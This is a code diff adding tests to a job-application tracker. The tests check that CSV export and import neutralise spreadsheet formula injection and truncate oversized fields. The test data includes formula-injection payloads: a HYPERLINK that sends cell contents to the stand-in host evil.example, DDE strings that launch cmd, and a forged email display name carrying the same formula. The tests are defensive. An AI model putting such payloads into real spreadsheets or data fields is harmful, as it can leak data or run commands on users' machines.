@@ -323,3 +323,121 @@ def test_scan_classify_and_link_on_either_database(db_url: str, tmp_path: Path) 
     assert json.loads(again.strip().splitlines()[-1])["new"] == 0
     apps = json.loads(run("list", "--json", home=home, db=db_url))
     assert [(a["company"], a["role"]) for a in apps] == [("Acme Robotics", "Data Analyst")]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "\uff1d1+1",  # full-width equals sign
+]
+
+
+def _mail_with_formulas(path: Path) -> Path:
+    """A Greenhouse display name and a LinkedIn subject that name a 'company' as a formula."""
+    from email.message import EmailMessage
+
+    from tests.factory import mbox_bytes
+
+    def mail(i: int, sender: str, subject: str, body: str) -> bytes:
+        msg = EmailMessage()
+        msg["From"], msg["To"], msg["Subject"] = sender, "sam@example.org", subject
+        msg["Date"], msg["Message-ID"] = "Mon, 16 Nov 2026 10:00:00 +0000", f"<f{i}@x>"
+        msg.set_content(body)
+        return msg.as_bytes()
+
+    path.write_bytes(
+        mbox_bytes(
+            [
+                mail(
+                    1,
+                    '"=HYPERLINK(""http://evil.example"",""Acme"") via Greenhouse" <no-reply@greenhouse.io>',
+                    "Thank you for applying",
+                    "Thank you for applying to our Data Analyst role. We received your application.",
+                ),
+                mail(
+                    2,
+                    "LinkedIn <jobs-noreply@linkedin.com>",
+                    "Sam, your application was sent to -9+9 Corp",
+                    "Your application was sent to -9+9 Corp",
+                ),
+            ]
+        )
+    )
+    return path
+
+
+def test_a_csv_export_hands_no_spreadsheet_a_formula(db_url: str, tmp_path: Path) -> None:
+    import csv
+    import io
+
+    home = tmp_path / "home"
+    for i, formula in enumerate(FORMULAS):
+        run("apply", "--", formula, f"Analyst {i}", home=home, db=db_url)
+    run("scan", str(_mail_with_formulas(tmp_path / "mail.mbox")), home=home, db=db_url)
+    companies = {a["company"] for a in json.loads(run("list", "--json", home=home, db=db_url))}
+    assert {"=HYPERLINK", "-9+9 Corp"} <= companies  # from the display name and the subject
+    rows = list(csv.reader(io.StringIO(run("export", "--format", "csv", home=home, db=db_url))))
+    danger = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(danger)]
+    for formula in FORMULAS:
+        assert "'" + formula in cells
+    assert "'=HYPERLINK" in cells and "'-9+9 Corp" in cells
+    exported = json.loads(run("export", "--format", "json", home=home, db=db_url))
+    assert {a["company"] for a in exported["applications"]} == companies  # JSON is data, as is
+
+
+def test_import_keeps_formula_cells_as_text_and_says_so(db_url: str, tmp_path: Path) -> None:
+    import csv
+
+    home = tmp_path / "home"
+    path = tmp_path / "teal.csv"
+    with path.open("w", newline="") as f:
+        w = csv.writer(f)
+        w.writerow(["Company", "Job Title", "Status", "URL", "Notes"])
+        w.writerow([FORMULAS[0], "-2+3", "Applied", "@evil", FORMULAS[1]])
+        w.writerow(["'=Already Text", "Analyst", "Applied", "", ""])
+        w.writerow(["Plain Co", "Analyst", "Applied", "", "- call back Monday"])
+    out = run("import", str(path), home=home, db=db_url)
+    assert "5 cell(s) began with =, +, - or @" in out and "leading '" in out
+    apps = {a["company"]: a for a in json.loads(run("list", "--json", home=home, db=db_url))}
+    assert set(apps) == {"'" + FORMULAS[0], "'=Already Text", "Plain Co"}
+    first = apps["'" + FORMULAS[0]]
+    assert (first["role"], first["url"], first["note"]) == ("'-2+3", "'@evil", "'" + FORMULAS[1])
+    assert apps["Plain Co"]["note"] == "'- call back Monday"
+    again = run("export", "--format", "csv", home=home, db=db_url)
+    assert "''" not in again  # what is already text is not marked twice
+
+
+def test_a_huge_import_field_is_cut_with_a_sentence_and_the_rest_imported(
+    db_url: str, tmp_path: Path
+) -> None:
+    import csv
+
+    home = tmp_path / "home"
+    path = tmp_path / "huntr.csv"
+    with path.open("w", newline="") as f:
+        w = csv.writer(f)
+        w.writerow(["Company", "Job Title", "List", "Notes"])
+        w.writerow(["Acme", "Analyst", "Applied", "short"])
+        w.writerow(["Globex", "Analyst", "Applied", "line one\n" + "x" * 200_000])
+        w.writerow(["Initech" * 100, "Analyst", "Applied", ""])
+        w.writerow(["Umbrella", "Analyst", "Applied", "fine"])
+    out = run("import", str(path), home=home, db=db_url)
+    assert "Row 3: the Notes field has 200,009 characters; onward kept the first 20,000." in out
+    assert "Row 4: the Company field has 700 characters; onward kept the first 200." in out
+    assert "Unexpected" not in out
+    apps = {a["company"]: a for a in json.loads(run("list", "--json", home=home, db=db_url))}
+    assert set(apps) == {"Acme", "Globex", "Initech" * 28 + "Init", "Umbrella"}
+    assert len(apps["Globex"]["note"]) == 20_000 and apps["Umbrella"]["note"] == "fine"
+
+
+def test_neutralise_marks_only_what_a_spreadsheet_would_run() -> None:
+    from onward.tracker.transfer import neutralise
+
+    for formula in [*FORMULAS, "\tx", "\rx", "\uff0bx", "\uff0dx", "\uff20x"]:
+        assert neutralise(formula) == "'" + formula
+    for text in ("Acme", "2026-11-20", "'=x", " =x", "", "Data - Analyst"):
+        assert neutralise(text) == text
